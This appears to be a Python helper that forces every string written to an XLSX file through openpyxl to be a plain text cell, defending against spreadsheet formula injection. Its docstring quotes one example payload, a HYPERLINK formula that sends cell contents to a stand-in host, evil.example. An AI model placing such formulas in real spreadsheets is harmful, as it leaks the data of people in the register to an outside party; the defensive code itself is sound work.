"""Spreadsheet cells that stay data: every XLSX the project writes goes through `append`.

openpyxl turns any string that starts with "=" into a formula, so an applicant named
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` became a live link in the register book.
Here every string is written as a string cell (`data_type = "s"`): Excel and LibreOffice show the
text as typed and evaluate nothing. Numbers stay numbers. (The CSV export holds only the progress
table: catalogue names of agencies and fields, and numbers; no applicant data.)
"""

from openpyxl.cell import WriteOnlyCell


def cell(sheet, value):
    """A write-only cell for `value`; strings are always plain text, never formulas."""
    written = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        written.data_type = "s"
    return written


def append(sheet, values):
    """`sheet.append(values)` with every string written as text."""
    sheet.append([cell(sheet, value) for value in values])
